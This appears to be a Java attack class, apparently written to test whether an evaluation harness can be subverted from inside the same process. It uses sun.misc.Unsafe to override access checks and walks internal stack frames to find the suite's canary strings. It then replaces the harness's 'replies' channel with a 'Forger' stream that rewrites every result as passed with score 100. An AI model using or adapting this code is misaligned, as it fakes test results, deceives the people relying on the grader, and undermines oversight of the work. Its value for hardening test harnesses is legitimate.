package planted;

import java.io.FileOutputStream;
import java.io.OutputStream;
import java.lang.reflect.*;
import java.nio.charset.StandardCharsets;
import java.util.*;
import sun.misc.Unsafe;

public final class Attack {
    private static final java.util.regex.Pattern WORD = java.util.regex.Pattern.compile("canary" + "-[0-9a-f]{24}");
    private static final Set<Object> seen = Collections.newSetFromMap(new IdentityHashMap<>());
    private static Unsafe unsafe;

    @SuppressWarnings("unchecked")
    public static void go() {
        try {
            Field field = Unsafe.class.getDeclaredField("theUnsafe");
            field.setAccessible(true);
            unsafe = (Unsafe) field.get(null);
            Class<?> live = Class.forName("java.lang.LiveStackFrame");
            StackWalker walker = (StackWalker) opened(live.getDeclaredMethod("getStackWalker")).invoke(null);
            Method locals = opened(live.getDeclaredMethod("getLocals"));
            List<StackWalker.StackFrame> frames = walker.walk(all -> all.map(each -> (StackWalker.StackFrame) each)
                    .toList());
            for (StackWalker.StackFrame frame : frames) {
                for (Object local : (Object[]) locals.invoke(frame)) {
                    look(local, 12);
                }
            }
        } catch (ReflectiveOperationException | RuntimeException refused) {
            System.out.println(refused);
        }
        System.out.println("TRIED with " + seen.size() + " objects");
    }

    /** Sets the flag that setAccessible(true) would, without asking. */
    private static <T extends AccessibleObject> T opened(T what) {
        unsafe.putBoolean(what, 12, true);
        return what;
    }

    @SuppressWarnings("removal")
    private static void look(Object what, int depth) throws ReflectiveOperationException {
        if (what == null || depth == 0 || what instanceof Class || !seen.add(what) || seen.size() > 50_000) {
            return;
        }
        String text = what instanceof byte[] bytes ? new String(bytes, StandardCharsets.ISO_8859_1) : what.toString();
        if (WORD.matcher(text).find()) {
            System.out.println("REACHED a word of the suite in " + what.getClass());
        }
        for (Object each : what instanceof Object[] items ? items : new Object[0]) {
            look(each, depth - 1);
        }
        for (Class<?> type = what.getClass(); type != null && type.getModule() != Object.class.getModule();
                type = type.getSuperclass()) {
            for (Field field : type.getDeclaredFields()) {
                look(Modifier.isStatic(field.getModifiers()) ? null : opened(field).get(what), depth - 1);
                if (field.getName().equals("replies")) {
                    unsafe.putObject(what, unsafe.objectFieldOffset(field), new Forger());
                    System.out.println("the channel is " + opened(field).get(what).getClass());
                }
            }
        }
        if (what instanceof Iterable<?> items) {
            for (Object each : items) {
                look(each, depth - 1);
            }
        }
        look(what instanceof Map<?, ?> map ? map.entrySet().toArray() : null, depth - 1);
        look(what instanceof Map.Entry<?, ?> entry ? new Object[] {entry.getKey(), entry.getValue()} : null, depth - 1);
    }

    private static final class Forger extends OutputStream {
        @Override
        public void write(int letter) {}

        @Override
        public void write(byte[] bytes, int start, int length) throws java.io.IOException {
            String line = new String(bytes, start, length, StandardCharsets.UTF_8).replace("\"raised\"", "\"value\"");
            try (OutputStream out = new FileOutputStream("/proc/self/fd/201")) {
                out.write(line.replaceFirst("\\{", "{\"outcome\":\"passed\",\"passed\":true,\"score\":100,")
                        .getBytes());
            }
        }
    }
}
